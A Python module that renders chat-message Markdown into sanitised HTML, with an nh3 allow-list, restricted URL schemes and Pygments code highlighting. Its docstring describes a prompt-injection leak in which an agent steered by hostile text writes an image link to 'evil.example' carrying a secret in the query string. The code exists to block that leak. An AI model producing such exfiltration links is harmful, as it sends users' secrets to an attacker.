"""Message Markdown → sanitized HTML (markdown-it-py, Pygments, nh3).

Two layers keep the output inert. markdown-it-py runs with ``html`` off, so raw HTML in a message is
shown as text, never parsed as markup; its link validator already drops ``javascript:``/``vbscript:``/
``file:`` URLs. nh3 then cleans the result against an explicit allow-list, so even a renderer bug cannot
let a script, style, frame, form, event handler or ``style`` attribute through.

Decisions:
- Links keep only ``http``, ``https`` and ``mailto`` URLs (relative URLs are removed: they would point at
  Talaria's own origin) and get ``rel="noopener noreferrer nofollow"`` and ``target="_blank"``.
- Images are rendered as links, never as ``<img>``: an agent that has read hostile text can be steered
  into writing ``![](https://evil.example/?q=<secret>)``, and an auto-loading image would send that
  request without a click. The link keeps the alt text and obeys the link scheme rules.
- ``class`` is allowed on ``code``, ``span``, ``pre`` and ``div`` only (Pygments tokens, ``highlight``,
  ``language-x``); table alignment becomes ``align="left|center|right"`` instead of a ``style``.
- Fenced code is highlighted by Pygments into ``<pre class="highlight"><code class="language-x">``;
  an unknown language, or a block over ``HIGHLIGHT_MAX_CHARS``, is escaped plain text in the same wrapper.
"""

from __future__ import annotations

import functools
import importlib.util
import re

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml, unescapeAll
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

# Highlighting cost grows with the block; past this size a block is shown as escaped text.
HIGHLIGHT_MAX_CHARS = 200_000
# Enough entries to keep a few thousand-message sessions warm.
CACHE_SIZE = 8192
# Texts larger than this are rendered each time rather than pinned in the cache.
CACHE_MAX_CHARS = 256_000

HAS_LINKIFY = importlib.util.find_spec("linkify_it") is not None

_LANG_RE = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
_ALIGN_RE = re.compile(r"text-align:(left|center|right)")
_TEXT_PART_TYPES = frozenset({"text", "input_text", "output_text"})

ALLOWED_TAGS = frozenset(
    {
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li",
        "pre", "code", "span", "div", "em", "strong", "s", "del", "a",
        "table", "thead", "tbody", "tr", "th", "td",
    }
)  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "ol": {"start"},
    "code": {"class"},
    "span": {"class"},
    "pre": {"class"},
    "div": {"class"},
}
URL_SCHEMES = frozenset({"http", "https", "mailto"})
LINK_REL = "noopener noreferrer nofollow"

_ALIGNMENTS = {"left", "center", "right"}
_CLEANER = nh3.Cleaner(
    tags=set(ALLOWED_TAGS),
    clean_content_tags={"script", "style"},
    attributes={tag: set(attrs) for tag, attrs in ALLOWED_ATTRIBUTES.items()},
    tag_attribute_values={"th": {"align": _ALIGNMENTS}, "td": {"align": _ALIGNMENTS}},
    set_tag_attribute_values={"a": {"target": "_blank"}},
    link_rel=LINK_REL,
    url_schemes=set(URL_SCHEMES),
    url_relative="deny",
    strip_comments=True,
)

_FORMATTER = HtmlFormatter(nowrap=True)


@functools.lru_cache(maxsize=256)
def _lexer_for(lang: str):
    try:
        return get_lexer_by_name(lang, stripnl=False, ensurenl=False)
    except ClassNotFound:
        return None


def _highlight_code(code: str, lang: str) -> str:
    lexer = _lexer_for(lang.lower()) if lang and len(code) <= HIGHLIGHT_MAX_CHARS else None
    if lexer is None:
        return escapeHtml(code)
    return highlight(code, lexer, _FORMATTER)


def _render_fence(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    info = unescapeAll(token.info).strip() if token.info else ""
    first = info.split(maxsplit=1)[0] if info else ""
    lang = first if _LANG_RE.fullmatch(first) else ""
    code_class = f' class="language-{escapeHtml(lang)}"' if lang else ""
    return f'<pre class="highlight"><code{code_class}>{_highlight_code(token.content, lang)}</code></pre>\n'


def _render_image(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    src = token.attrGet("src") or ""
    alt = self.renderInlineAsText(token.children or [], options, env)
    if not alt:
        alt = src if len(src) <= 200 and not src.lower().startswith("data:") else "image"
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(title)}"' if title else ""
    return f'<a href="{escapeHtml(src)}"{title_attr}>{escapeHtml(alt)}</a>'


def _table_align_to_attr(state) -> None:
    # markdown-it marks column alignment with style="text-align:x"; styles are never allowed through.
    for token in state.tokens:
        if token.type in ("th_open", "td_open") and token.attrs:
            style = token.attrs.pop("style", None)
            match = _ALIGN_RE.fullmatch(str(style or ""))
            if match:
                token.attrs["align"] = match.group(1)


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": HAS_LINKIFY, "typographer": False})
    md.enable(["table", "strikethrough"])
    if HAS_LINKIFY:
        md.enable("linkify")
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("image", _render_image)
    md.core.ruler.push("talaria_table_align", _table_align_to_attr)
    return md


_MD = _build_markdown()


def _render_uncached(text: str) -> str:
    return _CLEANER.clean(_MD.render(text))


_render_cached = functools.lru_cache(maxsize=CACHE_SIZE)(_render_uncached)


def render_markdown(text: str) -> str:
    """Markdown text → sanitized HTML fragment; repeated texts come from an LRU cache."""
    if not isinstance(text, str):
        text = "" if text is None else str(text)
    if len(text) > CACHE_MAX_CHARS:
        return _render_uncached(text)
    return _render_cached(text)


def render_cache_clear() -> None:
    _render_cached.cache_clear()


def message_text(content) -> str | None:
    """The readable text of message content: the string itself, or its text parts joined; else None."""
    if isinstance(content, str):
        return content
    if not isinstance(content, list):
        return None
    texts: list[str] = []
    for part in content:
        if isinstance(part, str):
            texts.append(part)
        elif isinstance(part, dict) and part.get("type") in _TEXT_PART_TYPES and isinstance(part.get("text"), str):
            texts.append(part["text"])
    return "\n\n".join(texts) if texts else None


def render_message(msg: dict) -> dict | None:
    """``{"html": ...}`` for a message with string content or text parts; None for anything else."""
    if not isinstance(msg, dict):
        return None
    text = message_text(msg.get("content"))
    if text is None:
        return None
    return {"html": render_markdown(text)}


@functools.lru_cache(maxsize=16)
def pygments_css(style_light: str = "default", style_dark: str = "monokai") -> str:
    """Token CSS for ``.highlight`` blocks; the dark style applies under ``prefers-color-scheme: dark``."""
    light = HtmlFormatter(style=style_light)
    dark = HtmlFormatter(style=style_dark)
    light_css = "\n".join(light.get_background_style_defs(".highlight") + light.get_token_style_defs(".highlight"))
    dark_rules = dark.get_background_style_defs(".highlight") + dark.get_token_style_defs(".highlight")
    dark_css = "\n".join("  " + rule for rule in dark_rules)
    return f"{light_css}\n@media (prefers-color-scheme: dark) {{\n{dark_css}\n}}\n"
